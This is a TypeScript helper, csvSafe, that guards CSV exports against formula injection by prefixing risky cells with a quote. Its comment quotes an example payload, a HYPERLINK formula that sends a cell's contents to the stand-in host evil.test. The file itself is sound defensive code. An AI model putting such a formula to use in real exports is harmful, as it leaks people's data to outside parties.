/**
 * A cell as every CSV the product writes must hold it (OWASP, CSV injection): text starting with
 * `=`, `+`, `-`, `@`, a tab or a carriage return would be run as a formula by a spreadsheet
 * (`=HYPERLINK("http://evil.test/?d="&A1,"Click")` from a nationality or a staff name), so it gets
 * a leading `'` and is read as text. Numbers stay numbers; quoting is the CSV writer's job.
 */
export function csvSafe(value: unknown): string | number {
  if (typeof value === 'number') return value;
  const text = value === null || value === undefined ? '' : String(value);
  return /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
}
